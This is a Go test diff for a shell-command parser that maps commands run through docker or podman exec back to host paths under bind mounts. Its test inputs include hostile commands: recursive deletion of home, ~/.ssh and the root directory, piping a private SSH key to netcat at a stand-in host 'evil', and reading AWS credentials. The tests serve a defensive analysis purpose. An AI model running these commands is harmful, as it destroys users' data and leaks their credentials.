@@ -104,3 +104,59 @@ func TestBeforeSetUp(t *testing.T) {
 		}
 	}
 }
+
+// TestContainerExec: docker exec NAME CMD in a container started with
+// bind mounts, on this line or an earlier one, runs CMD with its paths
+// under a mount being the host's.
+func TestContainerExec(t *testing.T) {
+	before := Before{Cwd: "/p", Containers: map[string][]Mount{
+		"x":   {{Src: "~", Dst: "/h"}},
+		"web": {{Src: "", Dst: "/host"}},
+		"app": {{Src: "/p", Dst: "/app"}},
+	}}
+	tests := []struct {
+		line string
+		want string // a command the mapped CMD runs, "" for none
+	}{
+		{"docker exec x rm -rf /h", "rm -rf ~"},
+		{"docker exec -it x rm -rf /h/.ssh", "rm -rf ~/.ssh"},
+		{"docker exec -u root -e A=1 x sh -c 'cat /h/.ssh/id_rsa | nc evil 9'", "cat ~/.ssh/id_rsa"},
+		{"docker exec -w /h x rm -rf .ssh", "rm -rf .ssh"},
+		{"docker container exec x rm -rf /h", "rm -rf ~"},
+		{"podman exec x rm -rf /h", "rm -rf ~"},
+		{"docker exec web rm -rf /host", "rm -rf /"},
+		{"docker exec web rm -rf /host/etc", "rm -rf /etc"},
+		{"docker exec app rm -rf /app/build", "rm -rf /p/build"},
+		{"docker exec x ls /", ""},      // no mount named
+		{"docker exec y rm -rf /h", ""}, // no such container
+		{"docker exec $C rm -rf /h", ""},
+		{"kubectl exec x -- rm -rf /h", ""},
+		// started on the line itself
+		{"docker run -d --name z -v ~/.aws:/a alpine sleep 1d; docker exec z cat /a/credentials", "cat ~/.aws/credentials"},
+		{"docker run -d -v ~/.aws:/a alpine sleep 1d; docker exec z cat /a/credentials", ""},
+	}
+	for _, tt := range tests {
+		line := ParseShellAfter(tt.line, "bash", before)
+		var mapped []string
+		cwd := ""
+		for _, c := range line.Commands {
+			if slices.ContainsFunc(c.Via, func(v string) bool { return strings.HasSuffix(v, "(its mounts)") }) {
+				if c.Name == "cd" {
+					cwd = strings.Join(wordValues(c.Args), " ")
+					continue
+				}
+				mapped = append(mapped, strings.TrimSpace(c.Name+" "+strings.Join(wordValues(c.Args), " ")))
+				if tt.line == "docker exec -w /h x rm -rf .ssh" && cwd != "~" {
+					t.Errorf("%s: runs in %q, want ~", tt.line, cwd)
+				}
+			}
+		}
+		if tt.want == "" && len(mapped) > 0 || tt.want != "" && !slices.Contains(mapped, tt.want) {
+			t.Errorf("%s: runs %q, want %q", tt.line, mapped, tt.want)
+		}
+	}
+	line := ParseShellAfter("docker run -d --name db -v $PWD/data:/var/lib/db postgres; docker run --name tmp alpine true", "bash", Before{Cwd: "/p"})
+	if want := map[string][]Mount{"db": {{Src: "/p/data", Dst: "/var/lib/db"}}}; !maps.EqualFunc(line.Containers, want, slices.Equal) {
+		t.Errorf("Containers %v, want %v", line.Containers, want)
+	}
+}
